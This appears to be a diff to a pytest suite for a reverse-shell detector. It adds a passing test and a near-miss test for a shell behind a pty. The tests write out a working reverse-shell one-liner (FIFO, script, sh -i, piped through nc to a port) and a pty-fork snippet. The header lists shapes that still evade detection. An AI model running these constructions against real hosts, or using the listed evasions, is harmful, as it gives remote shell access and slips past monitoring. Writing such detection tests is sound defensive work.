@@ -24,8 +24,9 @@ Found and fixed:
 
 Fixed since: a renamed copy of a shell (exe:shell-copy, by its loadable segments' digest).
 
-Left (strict xfail, the reasons on each): a shell behind a pty
-(`script -qc 'sh -i'`), a loop through a UNIX socket to the process holding the connection,
+Fixed since: a shell behind a pty (`script -qc 'sh -i'`: its master's holder's streams).
+
+Left (strict xfail, the reasons on each): a loop through a UNIX socket to the process holding the connection,
 a shell fed by `tail -f` of a regular file its relay appends to, the `while read l; do $l;
 done` loop a job queue's shape hides, a padded library listed by a RECORD of the user's own
 (a wheel the user installs is owned by design), and a library that maps part of its own file
@@ -314,18 +315,64 @@ def _settled_markers(scanner, pid: int) -> list | None:
     return [None, *scanner.process_markers(pid, exe, cmdline)]
 
 
+# ---------------------------------------------------------------- a shell behind a pty
+
+needs_script = pytest.mark.skipif(shutil.which("script") is None,
+                                  reason="needs util-linux's script")
+
+
+@needs_script
+def test_a_shell_behind_a_pty_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
+    """`cat f | script -qc 'sh -i' /dev/null | nc HOST PORT > f`: the shell's streams are the
+    pty's slave; script holds the master, and its own stdin and stdout close the loop
+    through nc: followed as the shell's."""
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    line = f"cat {fifo} | script -qc 'sh -i' /dev/null 2>&1 | nc 127.0.0.1 {listener.port} > {fifo}"
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        shell, detections = _wait_for(ProcessSampler(), kernel.pid,
+                                      lambda p: p.cmdline == ["sh", "-i"] and p.stream_relay)
+    assert shell.stream_relay.startswith("nc")
+    assert "remote-reverse-shell" in {d.signature.id for d in detections}
+
+
+@needs_script
+def test_a_shell_in_a_pty_logged_by_script_with_no_connection_is_left_alone(tmp_path):
+    """The near misses: `script` recording a shell session fed from a FIFO, its output to a
+    log through tee (no connection in the loop); and a Python program that holds a connection
+    itself and drives a shell in a pty it opened (an agent: the master's holder holds the
+    connection, its streams no loop)."""
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    agent = ("import os, pty, socket, time\n"
+             "server = socket.create_server(('127.0.0.1', 0))\n"
+             "client = socket.create_connection(server.getsockname())\n"
+             "pid, master = pty.fork()\n"
+             "if pid == 0: os.execvp('sh', ['sh', '-i'])\n"
+             "time.sleep(60)\n")
+    line = (f"cat {fifo} | script -qc 'sh -i' /dev/null 2>&1 | tee {tmp_path}/log > {fifo} & "
+            f"{sys.executable} -c \"{agent}\" < /dev/null; :")
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL) as kernel:
+        sampler = ProcessSampler()
+
+        def both_shells_read():
+            """A tick at which both shells (their fds read) and the connection are seen."""
+            snapshot = sampler.sample({"k": kernel.pid})["k"]
+            shells = [p for p in snapshot.processes if p.cmdline == ["sh", "-i"]]
+            connected = any(s.remote for p in snapshot.processes for s in p.sockets)
+            return shells if len(shells) == 2 and connected else None
+
+        shells = wait_until(both_shells_read, what="both shells and the connection")
+        found, relays = _loop_ticks(kernel.pid)
+    assert [p.stream_relay for p in shells] == ["", ""]
+    assert relays["sh -i"] == "" and found == set()
+
+
 # ---------------------------------------------------------------- left
 
-@pytest.mark.skipif(shutil.which("script") is None, reason="needs util-linux's script")
-@pytest.mark.xfail(strict=True, reason=(
-    "behind a pty (`cat f | script -qc 'sh -i' /dev/null | nc > f`) the shell's streams are "
-    "the pty's slave, no pipe; the loop runs through script, no shell, which holds the master: "
-    "following a loop through a pty's master is not done"))
-def test_a_shell_behind_a_pty_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
-    found, _ = _reverse_shell(
-        "cat {f} | script -qc 'sh -i' /dev/null 2>&1 | nc 127.0.0.1 {port} > {f}",
-        listener, tmp_path)
-    assert any(sig == "remote-reverse-shell" for sig, _, _ in found)
 
 
 RELAY = """
